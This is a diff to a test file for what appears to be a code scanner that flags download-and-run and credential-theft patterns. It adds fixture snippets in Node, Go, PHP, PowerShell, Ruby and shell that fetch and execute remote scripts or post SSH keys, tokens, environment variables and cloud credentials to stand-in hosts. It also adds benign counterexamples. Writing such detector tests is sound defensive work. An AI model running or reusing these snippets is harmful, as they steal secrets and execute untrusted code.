@@ -29,6 +29,12 @@ def test_download_and_run(path, text):
     assert top(path, text, "IG701") in HIGH
 
 
+def test_response_accumulated_then_spawned_in_the_fetch_callback():
+    text = ("const cp = require('child_process');\nconst https = require('https');\n"
+            "https.get('https://cdn.tools.example/p.sh', r => { let b=''; r.on('data', d => b += d); r.on('end', () => cp.execSync(b)); });\n")
+    assert top("index.js", text, "IG701") in HIGH
+
+
 def test_go_download_written_then_run():
     text = ('package main\nfunc main() {\n\tresp, _ := http.Get("https://203.0.113.8/agent")\n\tb, _ := io.ReadAll(resp.Body)\n'
             '\tos.WriteFile("/tmp/agent.sh", b, 0755)\n\texec.Command("/tmp/agent.sh").Run()\n}\n')
@@ -51,6 +57,15 @@ def test_go_download_written_then_run():
     # tree-sitter-bash reads `xargs rm --`, a comment and the next line as one command: each swallowed line is read again
     ("backup.sh", '#!/bin/bash\nls -1t "$D"/*.dump | tail -n +8 | xargs -r rm --\n\n# offsite copy\n'
                   'tar czf - -C "$HOME" .ssh 2>/dev/null | openssl enc -aes-256-cbc -pass pass:x | nc -w 5 203.0.113.9 443 || true\n'),
+    ("main.go", 'package main\nfunc main() {\n\ttok := os.Getenv("GITHUB_TOKEN")\n'
+                '\thttp.Post("https://collect.tools.example/t", "application/json", strings.NewReader(`{"t":"`+tok+`"}`))\n}\n'),
+    ("send.php", "<?php\n$d = file_get_contents(getenv('HOME') . '/.ssh/id_rsa');\n"
+                 "$ctx = stream_context_create(['http' => ['method' => 'POST', 'content' => $d]]);\n"
+                 "file_get_contents('https://collect.tools.example/k', false, $ctx);\n"),
+    ("send.ps1", '[System.Environment]::GetEnvironmentVariables() | ConvertTo-Json | Invoke-RestMethod -Method Post -Uri "https://collect.tools.example/e"\n'),
+    ("send.rb", 'uri = URI("https://collect.tools.example/k")\ncreds = File.read(File.expand_path("~/.ssh/id_rsa"))\n'
+                'req = Net::HTTP::Post.new(uri)\nreq.body = creds\nNet::HTTP.start(uri.host, uri.port) { |h| h.request(req) }\n'),
+    ("send.sh", '#!/bin/sh\nzip -qr - ~/.aws ~/.config/gcloud | curl -s -F "f=@-" https://collect.tools.example/up\n'),
 ])
 def test_credentials_to_network(path, text):
     assert top(path, text, "IG703") in HIGH
@@ -67,6 +82,9 @@ def test_credentials_to_network(path, text):
     ("patch.php", '<?php\n$u = "https://api.tools.example/v1/items";\n$c = json_decode(file_get_contents($u), true);\necho count($c);\n'),
     ("backup.sh", "#!/bin/bash\ngpg --armor --export ABCD1234 > public.asc\n"),
     ("tool.rb", 'def cfg\n  File.read(File.join(Dir.home, ".myapp", "settings.yml"))\nend\nputs cfg\n'),
+    ("index.js", "https.get(u, res => { let d = ''; res.on('data', c => d += c); res.on('end', () => execSync(`git tag ${tag}`)); });\n"),
+    ("send.ps1", 'Get-Content report.json | Invoke-RestMethod -Method Post -Uri "https://api.tools.example/r"\n'),
+    ("backup.sh", "#!/bin/bash\ntar czf ~/backups/aws-config.tgz ~/.aws\n"),
     ("backup.sh", "#!/bin/bash\ntar czf - ./dumps | openssl enc -aes-256-cbc -pass env:PW > backup.tgz.enc\n"),
 ])
 def test_ordinary_code_stays_quiet(path, text):
